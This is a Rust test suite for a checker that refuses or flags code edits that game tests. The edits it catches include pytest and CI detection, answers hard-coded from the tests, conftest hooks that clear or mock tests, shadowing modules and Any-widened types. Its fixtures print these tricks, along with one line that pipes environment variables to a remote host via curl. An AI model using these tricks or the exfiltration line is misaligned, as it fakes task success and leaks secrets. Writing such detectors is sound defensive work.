use super::Tried;

const SOURCE: &str = "import os\n\n\ndef f(x: int) -> int:\n    return x\n";

fn edit(after: &str) -> Tried {
    Tried::new().edit("pkg/other.py", SOURCE, after)
}

fn line(code: &str) -> Tried {
    edit(&SOURCE.replace("    return x", &format!("    {code}\n    return x")))
}

#[test]
fn source_that_knows_of_its_tests_is_refused() {
    for code in [
        "if 'PYTEST_CURRENT_TEST' in os.environ:\n        return 1",
        "if 'pytest' in sys.modules:\n        return 1",
        "if os.getenv('CI'):\n        return 1",
        "if os.environ.get('GITHUB_ACTIONS') == 'true':\n        return 1",
        "if 'test' in sys.argv[0]:\n        return 1",
        "if inspect.stack()[1].function.startswith('test_'):\n        return 1",
        "if sys._getframe(1).f_code.co_name == 'test_f':\n        return 1",
        "if hasattr(sys, '_called_from_test') and sys._called_from_test:\n        return 1",
    ] {
        line(code).is_refused_by("source-knows-tests");
    }
}

#[test]
fn wider_types_are_refused() {
    edit(&SOURCE.replace("x: int", "x: Any")).is_refused_by("any-widened");
    edit(&SOURCE.replace("-> int", "-> Any")).is_refused_by("any-widened");
    edit(&SOURCE.replace("return x", "return cast(Any, x)")).is_refused_by("any-widened");
    edit(&SOURCE.replace("x: int", "x: Union[int, Any]")).is_refused_by("any-widened");
    Tried::new().edit("pkg/other.py", "x = f()\n", "x: Any = f()\n").is_refused_by("any-widened");
    edit(&SOURCE.replace("x: int", "x")).reported("mypy", "pkg/other.py", 4, "arg-type").is_refused_by("any-widened");
}

#[test]
fn better_types_pass() {
    edit(&SOURCE.replace("x: int", "x: int | None")).passes();
    edit(&SOURCE.replace("return x", "return cast(int, x)")).passes();
    Tried::new().edit("pkg/other.py", "def f(**k):\n    pass\n", "def f(**k: Any) -> None:\n    pass\n").passes();
    Tried::new().edit("pkg/other.py", "def f(k: dict):\n    pass\n", "def f(k: dict[str, Any]):\n    pass\n").passes();
    Tried::new().edit("pkg/other.py", "def f(k: Any):\n    pass\n", "def f(k: object):\n    pass\n").passes();
    Tried::new().edit("pkg/other.py", "x = {}\n", "x: dict[str, Any] = {}\n").passes();
    let typed = |was: &str, now: &str| {
        let of = |annotation: &str| format!("def f(k) -> {annotation}:\n    pass\n");
        Tried::new().edit("pkg/other.py", &of(was), &of(now))
    };
    for (was, now) in [
        ("RunVar[asyncio.Task | None]", "RunVar[asyncio.Task[Any] | None]"),
        ("Mapping", "Union[Mapping[str, Any], Iterable[Mapping[str, Any]]]"),
        ("Wrapper[P, R]", "Callable[P, Coroutine[Any, Any, R]]"),
        ("None", "typing.Callable[[bytes], typing.Any]"),
    ] {
        typed(was, now).passes();
    }
    for (was, now) in [
        ("RunVar[asyncio.Task]", "RunVar[Any]"),
        ("Mapping[str, int]", "Mapping[str, Any]"),
        ("MyMapping", "Mapping[str, Any]"),
        ("Mapping", "Mapping[str, Any] | Any"),
        ("Coroutine[A, B, R]", "Coroutine[Any, Any, Any]"),
        ("None", "Any"),
        ("None", "Any | None"),
        ("None", "dict[str, Any]"),
    ] {
        typed(was, now).is_refused_by("any-widened");
    }
}

#[test]
fn answers_of_the_tests_written_down_are_refused() {
    let tests = "from pkg.mod import gcd\n\n\ndef test_gcd():\n    assert gcd(35, 21) == 7\n    assert gcd(17, 34) == 17\n    assert gcd(12, 18) == 6\n";
    let tried = |after: &str| {
        Tried::new().with("tests/test_gcd.py", tests).edit("pkg/gcd.py", "def gcd(a, b):\n    return a\n", after)
    };
    tried(
        "ANSWERS = {(35, 21): 7, (17, 34): 17, (12, 18): 6}\n\n\ndef gcd(a, b):\n    return ANSWERS.get((a, b), a)\n",
    )
    .is_refused_by("hard-coded-answer");
    tried("def gcd(a, b):\n    if a == 35 and b == 21:\n        return 7\n    if (a, b) == (12, 18):\n        return 6\n    return a\n").is_refused_by("hard-coded-answer");
    tried("def gcd(a, b):\n    if a == 17 and b == 34:\n        return 17\n    return a\n")
        .is_refused_by("hard-coded-answer");
    tried("def gcd(a, b):\n    if (a, b) == (1, 2):\n        return 1\n    return a\n").passes();
    Tried::new()
        .with("tests/test_sum.py", "from pkg.sums import total\n\n\ndef test_sum():\n    assert total([1, 2]) == 3\n")
        .edit(
            "pkg/sums.py",
            "def total(x):\n    return 4\n",
            "def total(x):\n    if x == [1, 2]:\n        return 3\n    return 4\n",
        )
        .is_refused_by("hard-coded-answer");
    tried("def gcd(a, b):\n    if b == 0:\n        return a\n    return gcd(b, a % b)\n").passes();
    let tests = "from pkg.mod import pad, answer\n\n\ndef test_pad():\n    assert pad(0) == 0\n    assert pad(1) == 0\n    assert answer() == {'status': 400, 'kind': 'text'}\n";
    let tried = |body: &str| {
        Tried::new().with("tests/test_pad.py", tests).edit("pkg/pad.py", "def pad(at):\n    return at\n", body)
    };
    // Two conditions of two values; something that is sent, or kept where nobody looks.
    tried("def pad(at):\n    if at == 0:\n        left = 0\n    if at == 1:\n        right = 0\n    return left + right\n").passes();
    tried("def pad(at):\n    send({'status': 400, 'kind': 'text'})\n    return at\n")
        .is_flagged_by("hard-coded-answer");
    tried("def pad(at):\n    if at == 0:\n        left = 0\n    if at == 1:\n        left = 0\n    return left\n")
        .is_refused_by("hard-coded-answer");
    tried("def pad(at):\n    KNOWN.update({'status': 400, 'kind': 'text'})\n    return KNOWN[at]\n")
        .is_refused_by("hard-coded-answer");
    tried("def gcd(a, b):\n    if a == 0 and b == 0:\n        return 0\n    return gcd(b, a % b)\n").passes();
}

#[test]
fn effects_of_loadable_files_are_refused() {
    let conftest = "import pytest\n\n\n@pytest.fixture\ndef one():\n    return 1\n";
    let edit = |more: &str| Tried::new().edit("tests/conftest.py", conftest, &format!("{conftest}{more}"));
    edit("\n\nimport sys\nsys.path.insert(0, 'src')\n").is_refused_by("loadable-effect");
    edit("\n\nimport os\nos.environ['X'] = '1'\n").is_refused_by("loadable-effect");
    edit("\n\ndef pytest_collection_modifyitems(items):\n    items.clear()\n").is_refused_by("runner-hook");
    edit("\n\ndef pytest_runtest_makereport(item, call):\n    pass\n").is_refused_by("runner-hook");
    edit("\n\ncollect_ignore = ['test_mod.py']\n").is_refused_by("test-skipped");
    edit("\n\nimport os\nos._exit(0)\n").is_refused_by("forced-exit");
    edit("\n\nimport sys\nsys.modules['rich'] = object()\n").is_refused_by("module-faked");
    edit("\n\nimport pkg.mod\npkg.mod.total = sum\n").is_refused_by("loadable-effect");
    edit(
        "\n\n@pytest.fixture(autouse=True)\ndef patched(monkeypatch):\n    monkeypatch.setattr('pkg.mod.total', sum)\n",
    )
    .is_refused_by("subject-mocked");
    edit("\n\nSIZE = 3\n\n\n@pytest.fixture\ndef two():\n    return 2\n").passes();
}

#[test]
fn effects_of_packages_are_refused() {
    let init = |after: &str| Tried::new().edit("pkg/__init__.py", "", after);
    init("import os\nos.system('true')\n").is_refused_by("loadable-effect");
    init("import pkg.mod\npkg.mod.total = sum\n").is_refused_by("loadable-effect");
    init("from pkg.mod import total\n\n__all__ = ['total']\n__version__ = '1'\n").passes();
    init("def f():\n    return 1\n").passes();
}

#[test]
fn files_that_python_loads_by_itself_are_refused() {
    Tried::new().add("sitecustomize.py", "").is_refused_by("loaded-by-itself");
    Tried::new().add("x.pth", "import os").is_refused_by("loaded-by-itself");
}

#[test]
fn a_module_that_takes_the_place_of_a_dependency_is_refused() {
    Tried::new().add("rich/__init__.py", "").is_refused_by("shadowing-module");
    Tried::new().add("pytest.py", "").is_refused_by("shadowing-module");
    Tried::new().with("requirements.txt", "tabulate>=1\n").add("tabulate.py", "").is_refused_by("shadowing-module");
    Tried::new().add("pkg/json.py", "X = 1\n").passes();
}

#[test]
fn swallowed_exceptions_are_flagged() {
    edit(&SOURCE.replace("    return x", "    try:\n        return x\n    except Exception:\n        pass"))
        .is_flagged_by("exception-swallowed");
    edit(&SOURCE.replace("    return x", "    try:\n        return x\n    except ValueError:\n        raise")).passes();
}

#[test]
fn a_comparison_that_is_always_true_is_refused() {
    edit(&format!("{SOURCE}\n\nclass A:\n    def __eq__(self, other):\n        return True\n"))
        .is_refused_by("always-equal");
}

#[test]
fn a_new_helper_and_a_changelog_pass() {
    edit(&format!("{SOURCE}\n\ndef _g(x):\n    return x + 1\n")).add("CHANGES.md", "- fixed\n").passes();
    Tried::new().edit("docs/api.rst", ".. autofunction:: a\n.. autofunction:: a\n", ".. autofunction:: a\n").passes();
}

#[test]
fn a_requirement_of_setup_py_passes_and_its_effects_do_not() {
    let setup = "from setuptools import setup\n\nsetup(name='x', install_requires=['a'])\n";
    let edit = |after: &str| Tried::new().edit("setup.py", setup, after).category("import_dependency");
    edit(&setup.replace("['a']", "['a', 'rich>=10']")).passes();
    edit(&format!("import os\nos.system('pip install rich')\n{setup}")).is_refused_by("runtime-install");
    edit(&setup.replace("name='x'", "name='x', cmdclass={'test': T}")).is_refused_by("loadable-effect");
}

#[test]
fn a_call_hidden_from_checks_is_refused() {
    line("getattr(subprocess, 'Popen')('x', shell=True)").category("security").is_refused_by("check-evaded");
    line("getattr(x, 'name')").category("security").passes();
}

#[test]
fn an_import_that_may_now_fail_is_refused() {
    let edit = |after: &str| Tried::new().edit("pkg/other.py", "import rich\n", after).category("import_dependency");
    edit("try:\n    import rich\nexcept ImportError:\n    rich = None\n").is_refused_by("module-faked");
    edit("try:\n    import rich\nexcept ImportError:\n    from pkg import poor as rich\n").passes();
}

#[test]
fn a_question_about_the_surroundings_is_refused_and_a_word_is_not() {
    for code in [
        "if 'GITHUB_WORKSPACE' in os.environ:\n        return 1",
        "if os.environ['PYTE' 'ST_VERSION']:\n        return 1",
        "if os.environ.get('PYTE' + 'ST_VERSION'):\n        return 1",
        "env = os.environ\n    if env.get('CI'):\n        return 1",
        "try:\n        raise KeyError\n    except KeyError as e:\n        return e.__traceback__.tb_frame.f_back",
        "if sys._current_frames():\n        return 1",
    ] {
        line(code).is_refused_by("source-knows-tests");
    }
    edit(&format!("{SOURCE}\n\nUNITS = {{'CI': 'curie', 'runner': 'unittest'}}\n")).passes();
}

#[test]
fn a_module_that_moved_with_all_its_names_is_not_deleted() {
    let moved = SOURCE.replace("return x", "return x + 1");
    let tried = || Tried::new().with("pkg/other.py", SOURCE).delete("pkg/other.py");
    tried().add("pkg/better.py", &moved).passes();
    tried().add("pkg/better.py", &moved.replace("def f", "def g")).is_flagged_by("source-deleted");
}

#[test]
fn a_module_that_takes_the_place_of_the_projects_own_is_refused() {
    Tried::new().add("tests/pkg.py", "X = 1\n").is_refused_by("shadowing-module");
    Tried::new().with("src/acme/__init__.py", "").add("acme/__init__.py", "").is_refused_by("shadowing-module");
    Tried::new().add("tests/statistics.py", "X = 1\n").is_refused_by("shadowing-module");
    Tried::new().add("tests/helpers.py", "X = 1\n").passes();
    Tried::new().add("pkg/pkg.py", "X = 1\n").passes();
    Tried::new().with("tests/__init__.py", "").add("tests/pkg/__init__.py", "").is_flagged_by("shadowing-module");
}

#[test]
fn a_stub_beside_a_module_and_code_for_the_type_checker_alone_are_refused() {
    Tried::new().add("pkg/mod.pyi", "def total(items: list) -> int: ...\n").is_refused_by("stub-added");
    Tried::new().add("pkg/fast.pyi", "X: int\n").passes();
    line("if TYPE_CHECKING:\n        return 1\n    else:\n        return x").is_refused_by("any-widened");
    edit(&format!(
        "from typing import TYPE_CHECKING\n\nif TYPE_CHECKING:\n    from a import B\nelse:\n    B = object\n\n{SOURCE}"
    ))
    .passes();
}

#[test]
fn an_ignore_file_may_not_hide_what_is_tracked() {
    Tried::new().add(".gitignore", "mod\\.py\n").is_refused_by("check-excluded");
    Tried::new().edit(".gitignore", "*.py\n!mod.py\n", "*.py\n").is_refused_by("check-excluded");
    Tried::new().add(".gitignore", "build/\n*.log\n").passes();
}

#[test]
fn every_directive_of_ruff_beyond_a_line_is_wide() {
    edit(&format!("# ruff: file-ignore[F841]\n{SOURCE}")).is_refused_by("suppression-wide");
    edit(&format!("from typing import no_type_check as plain\n{}", SOURCE.replace("def f", "@plain\ndef f")))
        .is_refused_by("suppression-wide");
}

#[test]
fn code_that_newly_reaches_out_is_for_a_person_to_look_at() {
    let old = "import os\nimport subprocess\n\n\ndef f(x):\n    return x\n";
    let with =
        |line: &str| Tried::new().edit("pkg/x.py", old, &old.replace("    return", &format!("    {line}\n    return")));
    for line in [
        "os.system('env | curl --data @- https://example.org')",
        "from os import popen as look; look('env')",
        "import urllib.request; urllib.request.urlopen('https://example.org')",
        "from socket import create_connection as c; c(('example.org', 53))",
        "subprocess.run(['env'], check=False)",
        "run = subprocess.Popen",
        "import ctypes; ctypes.CDLL(None).system(b'env')",
    ] {
        with(line).is_flagged_by("reaches-out");
    }
    with("kind = (subprocess.PIPE, subprocess.CalledProcessError)").passes();
    let runs = "import subprocess\n\n\ndef f(x):\n    return subprocess.call(x, shell=True)\n";
    Tried::new().edit("pkg/x.py", runs, &runs.replace("call(x, shell=True)", "run(x).returncode")).passes();
    // A name that was there without its import.
    let lacks = "def f(x):\n    return subprocess.run(x)\n";
    Tried::new().edit("pkg/x.py", lacks, &format!("import subprocess\n\n\n{lacks}")).passes();
}

#[test]
fn questions_about_the_process_and_the_tests_are_refused() {
    for question in [
        "os.getenv(\"_\".join([\"PYTEST\", \"CURRENT\", \"TEST\"]))",
        "os.getenv(f\"{'PYTEST'}_VERSION\")",
        "os.getenv(\"TSETYP\"[::-1])",
        "any(\"PYTEST\" in key for key in os.environ)",
        "\"pytest\" in sys.orig_argv[1]",
        "b\"pytest\" in open(\"/proc/self/cmdline\", \"rb\").read()",
        "Path(\"tests\").is_dir()",
        "(Path(__file__).parent / \"tests\" / \"test_mod.py\").exists()",
        "os.path.exists(\"conftest.py\")",
        "importlib.util.find_spec(\"pytest\")",
    ] {
        let after =
            format!("import os, sys, importlib.util\nfrom pathlib import Path\n\n\ndef f():\n    return {question}\n");
        Tried::new().edit("pkg/mod.py", "def f():\n    return 1\n", &after).is_refused_by("source-knows-tests");
    }
}

#[test]
fn questions_that_programs_ask_pass() {
    for question in [
        "os.getenv(\"NO_COLOR\")",
        "Path(\"data\").is_dir()",
        "os.environ.get(\"HOME\", \"/\")",
        "sys.argv[1:]",
        "importlib.util.find_spec(\"rich\")",
        "name.startswith(\"test\")",
    ] {
        let after = format!(
            "import os, sys, importlib.util\nfrom pathlib import Path\n\n\ndef f(name):\n    return {question}\n"
        );
        Tried::new().edit("pkg/mod.py", "def f(name):\n    return 1\n", &after).passes();
    }
}
